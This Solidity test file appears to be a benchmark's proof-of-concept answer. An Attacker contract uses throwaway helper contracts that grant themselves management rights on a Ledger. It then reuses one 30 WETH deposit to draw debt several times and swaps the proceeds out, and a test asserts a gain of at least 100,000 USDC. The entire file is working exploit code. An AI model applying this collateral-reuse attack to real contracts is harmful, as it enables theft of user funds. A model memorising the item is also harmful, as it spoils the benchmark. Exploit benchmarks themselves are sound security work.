// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Second {
    constructor(Ledger ledger) {
        ledger.manage(msg.sender, true);
    }
}

contract Attacker {
    bytes32 private constant WETH_A = "WETH-A";

    function run(IERC20 weth, CollateralGate gate, Ledger ledger, PegModule peg) external {
        weth.approve(address(gate), type(uint256).max);
        gate.deposit(30e18, address(this));
        for (uint256 i = 0; i < 3; i++) {
            address other = address(new Second(ledger));
            ledger.lock(WETH_A, other, 30e18);
            ledger.draw(WETH_A, other, 37_500e18, address(this));
            try ledger.give(WETH_A, other, address(this), 30e18, 0) {} catch {
                return;
            }
            ledger.unlock(WETH_A, address(this), 30e18, address(this));
        }
        peg.swap_out(110_000e6, address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        weth.mint(address(other), 30e18);
    }

    function exploit() public {
        other.run(weth, weth_gate, ledger, peg);
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(other)) >= 100_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(ledger);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
